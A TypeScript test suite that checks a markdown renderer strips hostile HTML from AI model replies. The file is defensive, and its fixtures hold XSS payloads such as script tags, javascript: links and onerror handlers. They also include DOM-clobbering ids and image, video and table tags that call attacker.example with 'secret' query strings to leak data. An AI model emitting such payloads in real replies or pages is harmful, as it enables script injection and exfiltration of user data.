// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

function html(text: string): string {
  const div = document.createElement('div');
  div.append(renderMarkdown(text));
  return div.innerHTML;
}

describe('markdown of model output', () => {
  it('keeps links, marked to open outside the app', () => {
    const out = html('see [docs](https://example.com/a)');
    expect(out).toContain('href="https://example.com/a"');
    expect(out).toContain('target="_blank"');
    expect(out).toContain('rel="noopener noreferrer"');
  });

  it('drops forms, frames, scripts, styles and script links', () => {
    const out = html(
      '<form action="https://evil.example"><input name="q"><button>go</button></form>' +
        '<iframe src="https://evil.example"></iframe><script>alert(1)</script><style>body{display:none}</style>' +
        '[x](javascript:alert(1)) <a href="data:text/html,hi">d</a> <img src=x onerror=alert(1)>',
    );
    for (const bad of ['<form', '<input', '<button', '<iframe', '<script', '<style', 'href="javascript', 'href="data:', 'onerror']) {
      expect(out).not.toContain(bad);
    }
    expect(html('[x](javascript:alert(1))')).not.toContain('href="javascript');
  });

  it('drops image maps, whose areas are links too', () => {
    const out = html('<map name="m"><area shape="rect" coords="0,0,500,500" href="https://evil.example"></map><img src="x.png" usemap="#m">');
    expect(out).not.toContain('<area');
    expect(out).not.toContain('<map');
    expect(out).not.toContain('evil.example');
  });
});

describe('a hostile reply', () => {
  const hostile =
    'Here you go.\n\n<ul id="connections"><li name="x">one</li></ul>\n\n' +
    '<img src="https://attacker.example/x.png?secret" alt="a chart"> <img srcset="https://attacker.example/y.png 1x">\n\n' +
    '<form id="settings-form"><p id="settings-error" name="settings-form">fake error</p></form>\n\n' +
    '<a name="add-connection" id="library-dialog" href="https://example.com/">link</a> ' +
    '<label for="settings-save" form="settings-form">save</label> <span data-figure="tps" aria-labelledby="title" popover>9000</span>\n\n' +
    '![tracker](https://attacker.example/t.gif?q=secret) <video src="https://attacker.example/v.mp4" poster="https://attacker.example/p.png"></video>' +
    '<table background="https://attacker.example/bg.png"><tr><td>x</td></tr></table>';

  it('keeps no id, name, form or other reference to the app, and no remote source', () => {
    const div = document.createElement('div');
    div.append(renderMarkdown(hostile));
    const out = div.innerHTML;
    for (const bad of [' id=', ' name=', ' form=', ' for=', 'data-figure', 'aria-', 'popover', 'srcset', 'poster', 'background', '<form', '<video']) {
      expect(out, bad).not.toContain(bad);
    }
    expect(out).not.toContain('attacker.example');
    for (const el of div.querySelectorAll('*')) {
      for (const attr of ['id', 'name', 'form', 'src', 'srcset']) expect(el.hasAttribute(attr), `${el.tagName} ${attr}`).toBe(false);
    }
    // The text stays: an image that may not be fetched reads as its alt text; the link works.
    expect(div.textContent).toContain('a chart');
    expect(div.textContent).toContain('tracker');
    expect(div.textContent).toContain('fake error');
    expect(div.querySelector('a')!.getAttribute('href')).toBe('https://example.com/');
    // Nothing of the reply answers the app's lookups.
    document.body.append(div);
    for (const selector of ['#connections', '#settings-form', '#settings-error', '#library-dialog', '[name=add-connection]', '[data-figure]']) {
      expect(document.querySelector(selector), selector).toBeNull();
    }
    div.remove();
  });

  it('keeps an image carried in the text, and no other class than highlight.js writes', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const out = html(`![dot](${png}) <img src="data:image/svg+xml;base64,PHN2Zz4="> <p class="error tok src-accepted">x</p>\n\n\`\`\`js\nconst a = 1;\n\`\`\``);
    expect(out).toContain(`src="${png}"`);
    expect(out).not.toContain('svg+xml');
    expect(out).not.toContain('class="error');
    expect(out).not.toContain('src-accepted');
    expect(out).toContain('class="hljs-block"');
    expect(out).toContain('class="hljs-keyword"');
  });
});
